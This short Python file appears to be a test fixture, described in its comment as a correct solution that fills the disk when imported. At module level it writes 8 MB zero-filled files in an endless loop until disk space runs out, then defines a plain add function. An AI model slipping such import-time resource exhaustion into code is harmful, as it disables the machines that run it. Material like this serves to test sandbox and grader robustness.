# A right solution that fills the disk when imported.
import itertools

chunk = b"\0" * (8 << 20)
for i in itertools.count():
    try:
        with open("fill%d" % i, "wb") as f:
            f.write(chunk)
    except OSError:
        break


def add(a, b):
    return a + b
